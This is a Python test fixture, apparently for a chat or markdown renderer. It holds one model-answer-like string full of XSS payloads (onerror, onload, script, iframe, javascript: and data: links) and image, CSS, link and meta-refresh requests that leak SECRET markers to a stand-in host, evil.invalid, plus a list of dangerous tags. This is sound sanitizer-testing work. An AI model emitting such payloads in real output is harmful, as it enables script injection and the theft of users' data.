"""An answer that tries to run scripts and to call out, and what none of it may become."""

from __future__ import annotations

HOSTILE = r"""Begin.

<img src=x onerror="window.__pwned='img'">

<script>window.__pwned='script'</script>

<svg onload="window.__pwned='svg'"></svg> <svg/onload=window.__pwned='svg2'>

<iframe srcdoc="<script>parent.__pwned='iframe'</script>"></iframe>

![picture](https://evil.invalid/?d=SECRET)

![x][leak] and <img src=https://evil.invalid/?d=SECRET-HTML>

[leak]: https://evil.invalid/?d=SECRET-REFERENCE

<style>@import 'https://evil.invalid/?d=SECRET-CSS'; body { display: none }</style>

<link rel=stylesheet href=https://evil.invalid/?d=SECRET-LINK>

<video src=https://evil.invalid/?d=SECRET-VIDEO autoplay></video>

<base href=https://evil.invalid/> <meta http-equiv=refresh content="0;https://evil.invalid/?d=M">

[a](javascript:window.__pwned='link') <a href="javascript:window.__pwned='anchor'">c</a>

[b](data:text/html,<script>parent.__pwned=1</script>) ![d](data:image/svg+xml;base64,PHN2Zz4=)

$\href{javascript:window.__pwned='tex'}{x}$ $$\style{background:url(https://evil.invalid/?d=T)}{y}$$

```html
<img src=x onerror="window.__pwned='fence'"><img src=https://evil.invalid/?d=FENCE>
```

```python
code = "<img src=x onerror=window.__pwned='code'><script src=https://evil.invalid/?d=CODE></script>"
```

| <img src=x onerror="window.__pwned='table'"> | b |
|---|---|
| <details open ontoggle="window.__pwned='toggle'"> | 1 |

The end."""
DANGEROUS = "script, img, svg, iframe, style, link, video, base, meta, form, object"
HANDLERS = "area => [...area.querySelectorAll('*')].flatMap(e => e.getAttributeNames())"
